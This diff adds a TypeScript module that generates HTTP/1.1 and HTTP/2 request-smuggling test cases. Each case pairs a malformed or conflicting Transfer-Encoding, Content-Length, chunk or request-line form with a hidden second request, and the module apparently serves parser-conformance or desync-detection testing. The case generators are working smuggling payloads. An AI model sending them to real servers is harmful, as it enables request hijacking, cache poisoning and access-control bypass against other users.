@@ -1,0 +1,239 @@
+// Requests whose end two parsers could see in different places. Each carries a second request where one of them might find it.
+// After J. Kettle, "HTTP Desync Attacks" (2019) and "HTTP/2: The Sequel is Always Worse" (2021), the HTTP Garden, and RFC 9112, 6.3, 7.1, 11.2.
+
+/** A case, for a number that its addresses carry. */
+export interface SmugglingCase {
+  readonly what: string;
+  readonly bytes: (number: number) => Buffer;
+}
+
+/** Where the requests of a case go; nothing is there, and the log of the server names them. */
+export const pathsOf = (number: number) => ({ main: `/api/companies/main-${number}`, hidden: `/api/companies/hidden-${number}` });
+
+const name = 'cranes.example';
+const hiddenRequest = (number: number): string => `GET ${pathsOf(number).hidden} HTTP/1.1\r\nHost: ${name}\r\n\r\n`;
+
+interface Form {
+  readonly start?: string;
+  readonly lines: readonly string[];
+  readonly body: (hidden: string) => string;
+}
+
+/** @param lines `{length}` stands for the length of the body. */
+const message =
+  ({ start = 'POST {path} HTTP/1.1', lines, body }: Form) =>
+  (number: number): Buffer => {
+    const content = body(hiddenRequest(number));
+    const head = [start.replace('{path}', pathsOf(number).main), `Host: ${name}`, 'Content-Type: application/json', ...lines, '', ''];
+    return Buffer.from(head.join('\r\n').replaceAll('{length}', String(content.length)) + content, 'latin1');
+  };
+
+const chunkOf = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`;
+const afterLastChunk = (hidden: string): string => `0\r\n\r\n${hidden}`;
+
+const chunkedForms = [
+  'Transfer-Encoding: chunked',
+  'Transfer-Encoding : chunked',
+  'Transfer-Encoding:chunked',
+  'Transfer-Encoding:\tchunked',
+  'Transfer-Encoding: chunked ',
+  'Transfer-Encoding:\r\n chunked',
+  'X-First: a\r\n Transfer-Encoding: chunked',
+  ' Transfer-Encoding: chunked',
+  'Transfer-Encoding: xchunked',
+  'Transfer-Encoding: CHUNKED',
+  'Transfer-Encoding: "chunked"',
+  'Transfer-Encoding: chunked;q=1',
+  'Transfer-Encoding: \u000bchunked',
+  'Transfer-Encoding: chunked\u0000',
+  'Transfer-Encoding\u0000: chunked',
+  'Transfer_Encoding: chunked',
+  'Transfer-Encoding: chunked, identity',
+  'Transfer-Encoding: identity, chunked',
+  'Transfer-Encoding: gzip, chunked',
+  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
+  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
+  'X-First: a\nTransfer-Encoding: chunked',
+  'X-First: a\rTransfer-Encoding: chunked',
+  'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
+];
+
+const lengthForms = [
+  'Content-Length: {length}\r\nContent-Length: {length}',
+  'Content-Length: 0\r\nContent-Length: {length}',
+  'Content-Length: {length}\r\nContent-Length: 0',
+  'Content-Length: {length}, {length}',
+  'Content-Length: 0, {length}',
+  'Content-Length: +{length}',
+  'Content-Length: -{length}',
+  'Content-Length: 0{length}',
+  'Content-Length: 0x{length}',
+  'Content-Length: {length}.0',
+  'Content-Length: {length} 0',
+  'Content-Length: {length}\u0000',
+  'Content-Length: \u000b{length}',
+  'Content-Length : {length}',
+  'Content-Length:\r\n {length}',
+  'Content_Length: {length}',
+  'Content-Length:',
+  'Content-Length: 18446744073709551616',
+  'X-First: a\nContent-Length: {length}',
+  'X-First: a\rContent-Length: {length}',
+  'Connection: Content-Length\r\nContent-Length: {length}',
+  'Expect: 100-continue\r\nContent-Length: {length}',
+  'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nContent-Length: {length}',
+];
+
+const chunkForms: readonly (readonly [what: string, body: (hidden: string) => string])[] = [
+  ['an extension of a chunk', (hidden) => `${hidden.length.toString(16)};a=b\r\n${hidden}\r\n0\r\n\r\n`],
+  ['an extension with a bare LF', (hidden) => `5;a\nhello\r\n0\r\n\r\n${hidden}`],
+  ['an extension with a quoted line end', (hidden) => `5;a="\r\n"\r\nhello\r\n0\r\n\r\n${hidden}`],
+  ['an extension of 20 KB', (hidden) => `5;a=${'b'.repeat(20_000)}\r\nhello\r\n0\r\n\r\n${hidden}`],
+  ['bare LF after the size', (hidden) => `5\nhello\r\n0\r\n\r\n${hidden}`],
+  ['bare LF after the data', (hidden) => `5\r\nhello\n0\r\n\r\n${hidden}`],
+  ['bare LF at the end', (hidden) => `5\r\nhello\r\n0\n\n${hidden}`],
+  ['bare CR after the size', (hidden) => `5\rhello\r\n0\r\n\r\n${hidden}`],
+  ['two bytes instead of a line end after the data', (hidden) => `5\r\nhelloXX0\r\n\r\n${hidden}`],
+  ['nothing after the data', (hidden) => `5\r\nhello0\r\n\r\n${hidden}`],
+  ['a size with 0x', (hidden) => `0x5\r\nhello\r\n0\r\n\r\n${hidden}`],
+  ['a size with +', (hidden) => `+5\r\nhello\r\n0\r\n\r\n${hidden}`],
+  ['a size below zero', (hidden) => `-5\r\nhello\r\n0\r\n\r\n${hidden}`],
+  ['a size with a blank before', (hidden) => ` 5\r\nhello\r\n0\r\n\r\n${hidden}`],
+  ['a size with a blank behind', (hidden) => `5 \r\nhello\r\n0\r\n\r\n${hidden}`],
+  ['a size with an underscore', (hidden) => `0_5\r\nhello\r\n0\r\n\r\n${hidden}`],
+  ['a size beyond 64 bits', (hidden) => `10000000000000005\r\nhello\r\n0\r\n\r\n${hidden}`],
+  ['a size of many zeros', (hidden) => `${'0'.repeat(40)}5\r\nhello\r\n0\r\n\r\n${hidden}`],
+  ['no size', (hidden) => `\r\nhello\r\n0\r\n\r\n${hidden}`],
+  ['a last chunk of two zeros', (hidden) => `5\r\nhello\r\n00\r\n\r\n${hidden}`],
+  ['a trailer that is a length', (hidden) => `5\r\nhello\r\n0\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`],
+  ['a trailer without a colon', (hidden) => `5\r\nhello\r\n0\r\nGET / HTTP/1.1\r\n\r\n${hidden}`],
+];
+
+const startForms: readonly (readonly [what: string, form: Form])[] = [
+  ['GET with a body', { start: 'GET {path} HTTP/1.1', lines: ['Content-Length: {length}'], body: (hidden) => hidden }],
+  ['GET with chunks', { start: 'GET {path} HTTP/1.1', lines: ['Transfer-Encoding: chunked'], body: chunkOf }],
+  ['HEAD with a body', { start: 'HEAD {path} HTTP/1.1', lines: ['Content-Length: {length}'], body: (hidden) => hidden }],
+  ['OPTIONS with a body', { start: 'OPTIONS {path} HTTP/1.1', lines: ['Content-Length: {length}'], body: (hidden) => hidden }],
+  [
+    'HTTP/1.0 with chunks',
+    { start: 'POST {path} HTTP/1.0', lines: ['Connection: keep-alive', 'Transfer-Encoding: chunked'], body: chunkOf },
+  ],
+  [
+    'HTTP/1.0 that is kept',
+    { start: 'POST {path} HTTP/1.0', lines: ['Connection: keep-alive', 'Content-Length: {length}'], body: (hidden) => hidden },
+  ],
+  ['HTTP/1.2', { start: 'POST {path} HTTP/1.2', lines: ['Content-Length: {length}'], body: (hidden) => hidden }],
+  [
+    'a request line with a second version',
+    { start: 'POST {path} HTTP/1.1 HTTP/1.1', lines: ['Content-Length: {length}'], body: (hidden) => hidden },
+  ],
+  ['an absolute form', { start: `POST http://${name}{path} HTTP/1.1`, lines: ['Content-Length: {length}'], body: (hidden) => hidden }],
+  [
+    'a line end in the path',
+    { start: 'POST {path}%0d%0aContent-Length:%200 HTTP/1.1', lines: ['Content-Length: {length}'], body: (hidden) => hidden },
+  ],
+  [
+    'bare LF after the request line',
+    { start: 'POST {path} HTTP/1.1\nX-First: a', lines: ['Content-Length: {length}'], body: (hidden) => hidden },
+  ],
+];
+
+/** Cases of HTTP/1.1. */
+export const cases: readonly SmugglingCase[] = [
+  ...chunkedForms.flatMap((form) => [
+    { what: `${form}, and a length of all`, bytes: message({ lines: ['Content-Length: {length}', form], body: afterLastChunk }) },
+    { what: `${form}, and a length of 4`, bytes: message({ lines: [form, 'Content-Length: 4'], body: chunkOf }) },
+    { what: form, bytes: message({ lines: [form], body: chunkOf }) },
+  ]),
+  ...lengthForms.map((form) => ({ what: form, bytes: message({ lines: [form], body: (hidden) => hidden }) })),
+  ...chunkForms.map(([what, body]) => ({ what, bytes: message({ lines: ['Transfer-Encoding: chunked'], body }) })),
+  ...startForms.map(([what, form]) => ({ what, bytes: message(form) })),
+];
+
+type Field = readonly [name: string, value: string];
+
+/** A frame of HTTP/2 (RFC 9113, 4.1). */
+function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head[3] = type;
+  head[4] = flags;
+  head.writeUInt32BE(stream, 5);
+  return Buffer.concat([head, payload]);
+}
+
+/** A text in HPACK, not compressed (RFC 7541, 5.1 and 5.2). */
+function hpackText(text: string): Buffer {
+  const bytes = Buffer.from(text, 'latin1');
+  const length: number[] = [];
+  if (bytes.length < 127) length.push(bytes.length);
+  else {
+    length.push(127);
+    let left = bytes.length - 127;
+    for (; left >= 128; left >>= 7) length.push((left & 127) | 128);
+    length.push(left);
+  }
+  return Buffer.concat([Buffer.from(length), bytes]);
+}
+
+/** A connection of HTTP/2 with one request, whatever its fields are. */
+function h2Message(fields: readonly Field[], body: string): Buffer {
+  const block = Buffer.concat(fields.flatMap(([field, value]) => [Buffer.from([0]), hpackText(field), hpackText(value)]));
+  return Buffer.concat([
+    Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
+    frame(4, 0, 0, Buffer.alloc(0)),
+    frame(1, 4, 1, block),
+    frame(0, 1, 1, Buffer.from(body, 'latin1')),
+  ]);
+}
+
+const h2Forms: readonly (readonly [
+  what: string,
+  changes: (hidden: string) => readonly Field[],
+  start?: Readonly<Record<string, string>>,
+])[] = [
+  ['a length of 0 and a body', () => [['content-length', '0']]],
+  ['a length that is too short', () => [['content-length', '4']]],
+  [
+    'two lengths',
+    (hidden) => [
+      ['content-length', '0'],
+      ['content-length', String(hidden.length)],
+    ],
+  ],
+  ['chunks', () => [['transfer-encoding', 'chunked']]],
+  [
+    'chunks, and a length',
+    (hidden) => [
+      ['transfer-encoding', 'chunked'],
+      ['content-length', String(hidden.length)],
+    ],
+  ],
+  ['a line end in a value', (hidden) => [['x-first', `a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${hidden}`]]],
+  ['a line end in a name', () => [['x-first: a\r\ntransfer-encoding', 'chunked']]],
+  ['a bare LF in a value', () => [['x-first', 'a\nTransfer-Encoding: chunked']]],
+  ['a colon in a name', () => [['transfer-encoding: chunked', 'a']]],
+  [
+    'Connection',
+    () => [
+      ['connection', 'transfer-encoding'],
+      ['transfer-encoding', 'chunked'],
+    ],
+  ],
+  ['a second Host', () => [['host', 'other.example']]],
+  ['a line end in the path', () => [], { ':path': '{path} HTTP/1.1\r\nTransfer-Encoding: chunked\r\nX: a' }],
+  ['a blank in the method', () => [], { ':method': 'GET {path} HTTP/1.1\r\nHost: cranes.example\r\n\r\nPOST' }],
+  ['a line end in the authority', () => [], { ':authority': 'cranes.example\r\nTransfer-Encoding: chunked' }],
+];
+
+/** Cases of HTTP/2, which a proxy translates into HTTP/1.1. */
+export const h2Cases: readonly SmugglingCase[] = h2Forms.map(([what, changes, start = {}]) => ({
+  what: `HTTP/2: ${what}`,
+  bytes: (number) => {
+    const { main } = pathsOf(number);
+    const hidden = hiddenRequest(number);
+    const first = { ':method': 'POST', ':scheme': 'http', ':authority': name, ':path': main, ...start };
+    const fields = Object.entries(first).map(([field, value]): Field => [field, value.replace('{path}', main)]);
+    return h2Message([...fields, ['content-type', 'application/json'], ...changes(hidden)], afterLastChunk(hidden));
+  },
+}));
